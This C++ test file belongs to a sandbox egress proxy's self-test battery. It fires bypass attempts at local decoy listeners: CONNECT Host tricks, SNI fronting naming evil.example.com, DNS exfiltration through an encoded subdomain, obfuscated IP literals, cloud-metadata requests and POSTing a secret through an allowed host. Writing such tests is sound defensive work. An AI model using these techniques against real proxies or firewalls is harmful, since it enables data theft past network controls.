// Battery rows about the egress proxy (37 to 42, 45): requests that try to get past its decisions.
// Each attack aims at decoy listeners on the host's 127.0.0.1, one that the row's policy allows
// and one that it does not; a row passes when the proxy refused for the stated reason (its 403
// and the words of the denial) and the decoys received no byte they should not have. Under a
// profile without network there is no proxy to trick: the row checks that its port is closed.
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "common/unique_fd.hpp"
#include "selftest/battery.hpp"

namespace paddock::selftest {
namespace {

// A listener on the host's 127.0.0.1 that never answers; afterwards it says how many
// connections reached it and how many bytes they carried.
class Decoy {
 public:
  Decoy() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof addr;
    if (!fd_ || ::bind(fd_.get(), reinterpret_cast<sockaddr*>(&addr), len) != 0 || ::listen(fd_.get(), 16) != 0 ||
        ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
      fd_.reset();
      return;
    }
    port_ = ntohs(addr.sin_port);
  }
  explicit operator bool() const { return static_cast<bool>(fd_); }
  std::string authority() const { return "127.0.0.1:" + std::to_string(port_); }
  std::uint16_t port() const { return port_; }

  struct Seen {
    int connections = 0;
    std::size_t bytes = 0;
  };
  Seen seen() const {
    Seen out;
    for (;;) {
      UniqueFd connection(::accept4(fd_.get(), nullptr, nullptr, SOCK_CLOEXEC | SOCK_NONBLOCK));
      if (!connection) break;
      ++out.connections;
      char buffer[4096];
      pollfd p{connection.get(), POLLIN, 0};
      while (::poll(&p, 1, 50) == 1) {
        const ssize_t n = ::recv(connection.get(), buffer, sizeof buffer, 0);
        if (n <= 0) break;
        out.bytes += static_cast<std::size_t>(n);
      }
    }
    return out;
  }

 private:
  UniqueFd fd_;
  std::uint16_t port_ = 0;
};

// Talks to the proxy the way an attacker's script would: raw bytes on a socket. Prints
// "noproxy" when the sandbox has no proxy variable, else each response's head and body
// (one `send` per argument; "\r\n" escapes are expanded).
constexpr const char* kRawClient = R"(
import os, socket, sys
if not os.environ.get('HTTP_PROXY'):
    s = socket.socket()
    try:
        s.connect(('127.0.0.1', 3128)); print('noproxy but the port is open')
    except OSError as e:
        print('noproxy', e.strerror)
    sys.exit(0)
s = socket.create_connection(('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1].strip('/'))), timeout=10)
for message in sys.argv[1:]:
    s.sendall(message.encode().decode('unicode_escape').encode('latin-1'))
    data = b''
    try:
        while b'\r\n\r\n' not in data or (data.startswith(b'HTTP/1.1 4') and not data.endswith(b'\n')):
            chunk = s.recv(4096)
            if not chunk: break
            data += chunk
    except socket.timeout:
        pass
    print(data.decode('latin-1'))
)";

struct Attempt {
  std::string out;  // what the raw client printed
  std::string err;  // the supervisor's stderr (denial lines) and the client's
  bool no_proxy = false;
  bool port_closed = false;
};

Attempt attempt(const Lab& lab, const std::vector<std::string>& messages, const std::string& policy) {
  std::vector<std::string> inside = {"python3", "-c", kRawClient};
  inside.insert(inside.end(), messages.begin(), messages.end());
  auto r = lab.run(inside, {"--policy", lab.policy_file("network.cedar", policy)});
  Attempt a{r.out, r.err};
  a.no_proxy = r.out.rfind("noproxy", 0) == 0;
  a.port_closed = r.out.rfind("noproxy Connection refused", 0) == 0;
  return a;
}

std::string allow_connect(const std::vector<std::string>& hosts) {
  std::string text;
  for (const auto& host : hosts)
    text += "@id(\"selftest-allow-" + std::to_string(&host - hosts.data()) +
            "\")\npermit (principal, action == Action::\"NetworkConnect\", resource == Host::\"" + host + "\");\n";
  return text;
}

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// The verdict on one attempt: PASS when `refused` holds and no decoy byte arrived.
Finding judge(const Attempt& a, bool refused, const Decoy::Seen& seen, const std::string& why) {
  if (a.no_proxy)
    return a.port_closed ? pass("the profile has no network: no proxy to trick, its port is closed")
                         : fail("no proxy variables, yet: " + a.out);
  if (seen.bytes != 0) return fail("a decoy received " + std::to_string(seen.bytes) + " bytes: " + a.out + a.err);
  if (!refused) return fail(a.out + a.err);
  return pass(why);
}

Finding plain_http_to_denied_host(const Lab& lab) {
  Decoy allowed, denied;
  if (!allowed || !denied) return not_applicable("could not listen on the host's 127.0.0.1");
  auto a = attempt(
      lab,
      {"GET http://" + denied.authority() + "/?d=SECRET HTTP/1.1\\r\\nHost: " + denied.authority() + "\\r\\n\\r\\n"},
      allow_connect({allowed.authority()}));
  auto seen = denied.seen();
  const bool refused =
      a.out.rfind("HTTP/1.1 403", 0) == 0 && contains(a.out, "paddock allow host " + denied.authority());
  if (seen.connections != 0) return fail("the denied decoy was connected to");
  return judge(a, refused, seen, "403 naming `paddock allow host`: absolute-form requests are decided like CONNECT");
}

Finding connect_tricks(const Lab& lab) {
  Decoy allowed, other;
  if (!allowed || !other) return not_applicable("could not listen on the host's 127.0.0.1");
  const auto policy = allow_connect({allowed.authority()});
  // Host field naming another authority than the CONNECT target.
  auto host = attempt(
      lab, {"CONNECT " + allowed.authority() + " HTTP/1.1\\r\\nHost: " + other.authority() + "\\r\\n\\r\\n"}, policy);
  if (host.no_proxy) return judge(host, false, {}, "");
  if (!(host.out.rfind("HTTP/1.1 403", 0) == 0 && contains(host.out, "names another authority")))
    return fail("CONNECT with Host " + other.authority() + ": " + host.out + host.err);
  // The allowed host on another port (ssh's, say).
  auto port = attempt(lab, {"CONNECT 127.0.0.1:22 HTTP/1.1\\r\\nHost: 127.0.0.1:22\\r\\n\\r\\n"}, policy);
  if (!(port.out.rfind("HTTP/1.1 403", 0) == 0 && contains(port.out, "paddock allow host 127.0.0.1:22")))
    return fail("CONNECT 127.0.0.1:22: " + port.out + port.err);
  // Relayed: the proxy asked to connect to itself.
  auto relay = attempt(lab, {"CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n\\r\\n"}, policy);
  if (relay.out.rfind("HTTP/1.1 403", 0) != 0) return fail("CONNECT to the proxy itself: " + relay.out + relay.err);
  // CONNECT inside an allowed tunnel.
  auto inner =
      attempt(lab,
              {"CONNECT " + allowed.authority() + " HTTP/1.1\\r\\nHost: " + allowed.authority() + "\\r\\n\\r\\n",
               "CONNECT " + other.authority() + " HTTP/1.1\\r\\nHost: " + other.authority() + "\\r\\n\\r\\n"},
              policy);
  auto seen_other = other.seen();
  auto seen_allowed = allowed.seen();
  if (seen_other.connections != 0) return fail("the other decoy was connected to: " + inner.out + inner.err);
  const bool refused = inner.out.rfind("HTTP/1.1 200", 0) == 0 && contains(inner.err, "no proxy chaining");
  return judge(inner, refused, seen_allowed,
               "403 for a Host field naming another authority, another port, the proxy itself, and CONNECT inside "
               "a tunnel (no byte of it went upstream)");
}

Finding sni_fronting(const Lab& lab) {
  Decoy allowed;
  if (!allowed) return not_applicable("could not listen on the host's 127.0.0.1");
  // A name the policy allows (and the address it resolves to), then a TLS hello naming another.
  const std::string name = "localhost:" + std::to_string(allowed.port());
  auto r = lab.run({"sh", "-c",
                    "[ -n \"$HTTP_PROXY\" ] || { echo noproxy; exit 0; }; openssl s_client -proxy 127.0.0.1:3128 "
                    "-connect " +
                        name + " -servername evil.example.com </dev/null 2>&1 | head -3"},
                   {"--policy", lab.policy_file("network.cedar", allow_connect({name, allowed.authority()}))});
  Attempt a{r.out, r.err, r.out.rfind("noproxy", 0) == 0, true};
  if (contains(r.out + r.err, "not found")) return not_applicable("openssl is not installed");
  const bool refused = contains(r.err, "TLS server name evil.example.com in the tunnel to localhost");
  return judge(a, refused, allowed.seen(),
               "the tunnel is cut before any byte goes upstream: the SNI must name the host that was allowed");
}

Finding dns_exfiltration(const Lab& lab) {
  Decoy allowed;
  if (!allowed) return not_applicable("could not listen on the host's 127.0.0.1");
  const std::string secret = "c2vjcmv0lxrva2vu.exfil.paddock-selftest.invalid";
  auto r = lab.run({"python3", "-c",
                    "import socket\ntry:\n  print(socket.getaddrinfo('" + secret +
                        "', 443))\nexcept socket.gaierror as e:\n  print('gaierror', e.errno)\n"},
                   {"--policy", lab.policy_file("network.cedar", allow_connect({allowed.authority()})), "--net-log"});
  if (r.out.rfind("gaierror", 0) != 0) return fail("resolving a denied name: " + r.out + r.err);
  // The proxy asked to connect there refuses on the name, never resolving it.
  auto a = attempt(lab, {"CONNECT " + secret + ":443 HTTP/1.1\\r\\nHost: " + secret + ":443\\r\\n\\r\\n"},
                   allow_connect({allowed.authority()}));
  const bool refused = a.out.rfind("HTTP/1.1 403", 0) == 0 && contains(a.out, "paddock allow host " + secret) &&
                       !contains(a.out, "resolve");
  if (!a.no_proxy && !contains(r.err, "denied DNS A " + secret)) return fail("the DNS stub did not refuse: " + r.err);
  return judge(a, refused, allowed.seen(),
               "the DNS stub answers REFUSED for denied names, and the proxy decides a name before resolving it");
}

Finding odd_literals(const Lab& lab) {
  Decoy allowed, denied;
  if (!allowed || !denied) return not_applicable("could not listen on the host's 127.0.0.1");
  const std::string port = std::to_string(denied.port());
  const std::string canonical = "paddock allow host 127.0.0.1:" + port;
  for (const std::string literal : {"[::ffff:127.0.0.1]", "2130706433", "0x7f.0.0.1", "0177.0.0.1", "127.1"}) {
    auto a = attempt(
        lab, {"CONNECT " + literal + ":" + port + " HTTP/1.1\\r\\nHost: " + literal + ":" + port + "\\r\\n\\r\\n"},
        allow_connect({allowed.authority()}));
    if (a.no_proxy) return judge(a, false, {}, "");
    if (!(a.out.rfind("HTTP/1.1 403", 0) == 0 && contains(a.out, canonical)))
      return fail("CONNECT " + literal + ":" + port + " was not normalised to 127.0.0.1: " + a.out + a.err);
  }
  auto v6 = attempt(lab, {"CONNECT [fd00::1]:443 HTTP/1.1\\r\\nHost: [fd00::1]:443\\r\\n\\r\\n"},
                    allow_connect({allowed.authority()}));
  const bool refused = v6.out.rfind("HTTP/1.1 403", 0) == 0;
  auto seen = denied.seen();
  if (seen.connections != 0) return fail("the denied decoy was connected to");
  return judge(v6, refused, seen,
               "decimal, hex, octal, short and IPv4-mapped literals are normalised to 127.0.0.1 and denied; so is "
               "IPv6 ULA");
}

Finding private_destinations(const Lab& lab) {
  Decoy target;
  if (!target) return not_applicable("could not listen on the host's 127.0.0.1");
  const std::string port = std::to_string(target.port());
  // A name allowed by the policy that resolves to loopback (as a rebinding attack arranges), and
  // the cloud metadata address.
  const std::string name = "localhost:" + port;
  const std::string policy =
      allow_connect({name}) + "permit (principal, action == Action::\"NetworkConnect\", resource in Host::\"*\");\n";
  auto rebound = attempt(lab, {"CONNECT " + name + " HTTP/1.1\\r\\nHost: " + name + "\\r\\n\\r\\n"}, policy);
  if (rebound.no_proxy) return judge(rebound, false, {}, "");
  if (!(rebound.out.rfind("HTTP/1.1 403", 0) == 0 && contains(rebound.out, "loopback")))
    return fail("CONNECT " + name + " (resolves to 127.0.0.1): " + rebound.out + rebound.err);
  auto metadata = attempt(
      lab, {"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n"}, policy);
  const bool refused = metadata.out.rfind("HTTP/1.1 403", 0) == 0;
  auto seen = target.seen();
  if (seen.connections != 0) return fail("the loopback decoy was connected to through an allowed name");
  return judge(metadata, refused, seen,
               "an allowed name resolving to loopback and the metadata address are denied after resolution");
}

// Exfiltration through a host the policy allows, as `git push` or `npm publish` would: the
// defence is a method rule on the host (Codex's "limited" mode: reads only). The probe speaks
// plain HTTP so the decoy needs no certificate; on intercepted HTTPS the same HttpRequest
// decision applies (tests/integration/interception_test.cpp).
Finding exfiltration_through_allowed_host(const Lab& lab) {
  Decoy allowed;
  if (!allowed) return not_applicable("could not listen on the host's 127.0.0.1");
  const std::string policy = allow_connect({allowed.authority()}) +
                             "permit (principal, action == Action::\"HttpRequest\", resource == Host::\"127.0.0.1\");\n"
                             "@id(\"selftest-reads-only\")\n"
                             "forbid (principal, action == Action::\"HttpRequest\", resource == Host::\"127.0.0.1\")\n"
                             "when { !(context.method == \"GET\" || context.method == \"HEAD\") };\n";
  auto a = attempt(lab,
                   {"POST http://" + allowed.authority() + "/gists HTTP/1.1\\r\\nHost: " + allowed.authority() +
                    "\\r\\nContent-Length: 6\\r\\n\\r\\nsecret"},
                   policy);
  const bool refused = a.out.rfind("HTTP/1.1 403", 0) == 0 && contains(a.out, "selftest-reads-only");
  // The connection to the allowed host may be open (NetworkConnect allowed it); no byte of the
  // request may have gone through it.
  return judge(a, refused, allowed.seen(),
               "403 from the method rule (selftest-reads-only) before any byte went to the allowed host");
}

}  // namespace

std::vector<Probe> network_probes() {
  return {
      {37, "plain HTTP via the proxy to a denied host (absolute form)", plain_http_to_denied_host},
      {38, "CONNECT tricks: Host != authority, another port, relayed, CONNECT in a tunnel", connect_tricks},
      {39, "domain fronting: SNI of another host in an allowed tunnel", sni_fronting},
      {40, "DNS exfiltration: resolve $(secret).attacker.tld", dns_exfiltration},
      {41, "IPv6, mapped and odd IPv4 literals ([::ffff:127.0.0.1], 2130706433, 0x7f.0.0.1)", odd_literals},
      {42, "host loopback or metadata via the proxy (rebinding, 169.254.169.254)", private_destinations},
      {45, "exfiltration through an allowed host: POST a gist, git push, npm publish",
       exfiltration_through_allowed_host},
  };
}

}  // namespace paddock::selftest
